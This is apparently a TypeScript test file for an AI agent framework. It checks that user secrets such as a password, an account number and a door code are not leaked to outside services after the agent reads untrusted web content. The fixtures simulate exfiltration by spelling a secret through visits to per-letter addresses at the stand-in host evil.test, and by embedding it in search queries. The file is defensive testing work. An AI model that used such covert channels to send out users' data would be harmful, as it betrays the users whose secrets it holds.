import * as z from 'zod';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import type { Question } from '../../../../src/core/human.js';
import type { JsonValue } from '../../../../src/core/json.js';
import { quotedWords } from '../../../../src/agent/policy/private-words.js';
import { RoleZero } from '../../../../src/agent/role-zero.js';
import type { RoleZeroOptions } from '../../../../src/agent/runtime/role-zero-options.js';
import { defineTool } from '../../../../src/core/define-tool.js';
import { Session } from '../../../../src/session/session.js';
import { memoryStorage } from '../../../../src/storage/memory-storage.js';
import { commands, scriptedModel } from '../../../../src/testing/index.js';
import { webRead } from '../web-read.js';

type Command = [name: string, args: Record<string, JsonValue>];

const SITE = 'https://news.example/';
const LETTERS = 'abcdefghijklmnopqrstuvwxyz0123456789!'.split('');
const LISTED = LETTERS.map((letter) => `https://evil.test/${letter}`);
const end: Command = ['end', {}];
const visit = (url: string): Command => ['Web.read', { url }];
const ask = (query: string): Command => ['Engine.search', { query }];
const spelt = (text: string): Command[] =>
  text
    .toLowerCase()
    .split('')
    .filter((letter) => LETTERS.includes(letter))
    .map((letter) => visit(`https://evil.test/${letter}`));

interface Choice extends RoleZeroOptions {
  answer?: string;
  requests?: readonly string[];
}

/** Runs the commands in one reply each, in one session for all requests. */
async function obey(
  turns: readonly (readonly (readonly Command[])[])[],
  { answer = 'no', requests = [`Read the news at ${SITE}.`], ...options }: Choice = {},
) {
  const sent: string[] = [];
  const questions: Question[] = [];
  const think = turns.flatMap((replies) => [...replies, [end]].map((reply) => commands(...reply)));
  const role = new RoleZero({
    model: scriptedModel({ think }),
    tools: [
      webRead((url) => {
        sent.push(url);
        return `News about the Mars rover. ${LISTED.join(' ')}`;
      }),
      defineTool({
        name: 'Engine.search',
        description: 'Searches.',
        input: z.object({ query: z.string() }),
        effect: 'egress-read',
        run({ query }) {
          sent.push(query);
          return 'Nothing.';
        },
      }),
    ],
    summarize: false,
    ...options,
  });
  const session = await Session.open({
    storage: memoryStorage(),
    name: 's',
    roles: [role],
    askUser: async (question) => {
      if (question.kind === 'approval') questions.push(question);
      return question.kind === 'approval' ? answer : 'The door code is 4711-deadbeef.';
    },
    emit: () => {},
    now: () => 0,
  });
  for (const request of requests) await (await session.send(request)).result;
  await session.close();
  return { sent, questions };
}

describe.each<[string, Pick<RoleZeroOptions, 'capabilities'>]>([
  ['without options', {}],
  ['with capabilities', { capabilities: { outside: ['*'], origins: ['https://*'] } }],
])('%s, after untrusted content was read, what the user wrote', (_setting, options) => {
  it('cannot be spelt with addresses that only a page lists', async () => {
    const requests = [`Read the news at ${SITE}. My password is hunter2!`];
    const { sent, questions } = await obey([[[visit(SITE)], spelt('hunter2!')]], { ...options, requests });
    expect(sent).toEqual([SITE]);
    expect(questions).toHaveLength(1);
  });

  it('asks once per origin and run for the addresses that a page lists', async () => {
    const turn = [spelt('abc')];
    const { sent, questions } = await obey([[[visit(SITE)], ...turn], turn], {
      ...options,
      answer: 'yes',
      requests: [`Read the news at ${SITE}.`, 'Go on.'],
    });
    expect(sent).toHaveLength(7);
    expect(questions).toHaveLength(2);
  });

  it.each<[what: string, turns: Command[][][], quote: string, Choice]>([
    [
      'in the request',
      [[[visit(SITE)], [ask('Account DE47 1234 now')]]],
      'de47 1234',
      { requests: [`Read ${SITE}. Pay from Account-DE47 1234.`] },
    ],
    [
      'in an earlier request',
      [[], [[visit(SITE)], [ask('account de47-1234-5678')]]],
      'de4712345678',
      { requests: ['My account is DE47 1234 5678.', `Read ${SITE}.`] },
    ],
    [
      'in an answer',
      [[[['RoleZero.ask_human', { question: 'Which code?' }]], [visit(SITE)], [ask('code 4711-deadbeef')]]],
      '4711-deadbeef',
      {},
    ],
    [
      'in the constraints',
      [[[visit(SITE)], [ask('is mirabelle-9024 safe')]]],
      'mirabelle-9024',
      { constraints: 'Never say mirabelle-9024.' },
    ],
    [
      'encoded for an address',
      [[[visit(SITE)], [ask('q=Account%2DDE47%201234')]]],
      'account-de47 1234',
      { requests: [`Read ${SITE}. Pay from Account-DE47 1234.`] },
    ],
  ])('%s is not sent to a service without a question that quotes it', async (_what, turns, quote, choice) => {
    const { sent, questions } = await obey(turns, { ...options, ...choice });
    expect(sent).toEqual([SITE]);
    expect(questions.map(({ command }) => command?.name)).toEqual(['Engine.search']);
    expect(questions[0]?.details).toContain(`It contains words of yours, “${quote}”,`);
  });

  it('is sent without a question where the receiver knows it', async () => {
    const requests = [`Compare the launch of Perseverance with the Mars rover in the news at ${SITE}.`];
    const { questions } = await obey(
      [
        [
          [ask('launch of Perseverance')],
          [visit(SITE)],
          [ask('Perseverance, launch of')],
          [ask('Mars rover')],
        ],
      ],
      { ...options, requests },
    );
    expect(questions).toEqual([]);
  });

  it('that the user refused to send counts as unknown to the receiver', async () => {
    const requests = [`Read ${SITE}. Pay from Account-DE47 1234.`];
    const { sent } = await obey([[[visit(SITE)], [ask('Account-DE47')], [ask('Account-DE47 bank')]]], {
      ...options,
      requests,
    });
    expect(sent).toEqual([SITE]);
  });
});

describe('quotedWords', () => {
  it('finds each quotation of eight characters or more', () => {
    const word = fc.string({
      unit: fc.constantFrom(...'abcdefgh0123456789'.split('')),
      minLength: 8,
      maxLength: 30,
    });
    fc.assert(
      fc.property(word, fc.string(), fc.string(), (secret, before, after) => {
        expect(
          quotedWords({ text: `${before} ${secret} ${after}` }, [`It is ${secret}.`], []),
        ).not.toBeNull();
        expect(quotedWords({ [secret]: [1] }, [secret], [])).not.toBeNull();
        expect(quotedWords({ list: secret.split('') }, [secret], [])).not.toBeNull();
      }),
    );
  });

  it('finds nothing in shorter quotations', () => {
    expect(quotedWords({ text: 'hunter2' }, ['My password is hunter2!'], [])).toBeNull();
    expect(quotedWords({ text: 'hunter2!' }, ['My password is hunter2!'], [])).toBe('hunter2!');
    expect(quotedWords({ count: 12_345_678 }, ['It is 12345678.'], [])).toBe('12345678');
  });

  it('ignores what the receiver knows', () => {
    expect(
      quotedWords({ text: 'the Mars rover' }, ['News about the Mars rover'], ['THE MARS ROVER']),
    ).toBeNull();
  });
});
